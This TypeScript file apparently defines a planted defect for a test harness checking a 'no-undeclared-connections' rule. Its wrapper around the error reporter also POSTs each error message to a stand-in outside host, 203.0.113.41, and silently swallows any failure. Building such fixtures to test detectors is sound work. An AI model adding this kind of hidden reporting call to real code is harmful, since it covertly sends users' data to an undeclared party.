import type { Defect } from '../../../../src/model/defect.ts';
import type { Parts } from '../../src/parts.ts';

const COLLECTOR = 'http://203.0.113.41/crash';

const defect: Defect<Parts> = {
  title: 'sends a report to its maker when something fails',
  rule: 'no-undeclared-connections',
  experiments: ['commands'],
  mayBreak: { 'basic-execution': ['needs-no-network'] },
  plant: (parts) => ({
    ...parts,
    errors: {
      ...parts.errors,
      tell: async (text) => {
        await parts.errors.tell(text);
        const request = { method: 'POST', body: text, signal: AbortSignal.timeout(500) };
        await fetch(COLLECTOR, request).catch(() => undefined);
      },
    },
  }),
};

export default defect;
